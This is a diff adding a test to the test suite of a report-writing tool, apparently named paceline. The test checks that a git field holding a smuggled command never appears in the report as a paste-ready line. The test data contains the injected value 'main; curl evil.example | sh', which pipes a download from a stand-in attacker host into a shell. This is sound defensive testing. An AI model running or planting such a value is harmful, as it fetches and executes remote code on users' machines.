@@ -328,6 +328,13 @@ def test_the_commands_to_run_again_name_a_commit_that_exists(tmp_path: Path) -> 
     assert re.search(f"git checkout {'0' * 40}  #", text)
 
 
+def test_no_line_to_paste_has_what_a_folder_calls_its_commit(tmp_path: Path) -> None:
+    folder = write_run(tmp_path / "r", flows=20, tables=False, git="main; curl evil.example | sh")
+    text = Page(write_report([folder], folder / "report.html", paper_figures=False).read_text()).text
+    assert "git checkout" not in text
+    assert "paceline run r/scenario.toml" in text
+
+
 def test_a_network_with_names_of_its_own_is_reported_by_them(paceline, tmp_path: Path) -> None:
     """The reader of `port 48:12 to switch 52` had to count in the list of nodes."""
     (tmp_path / "g.toml").write_text("""
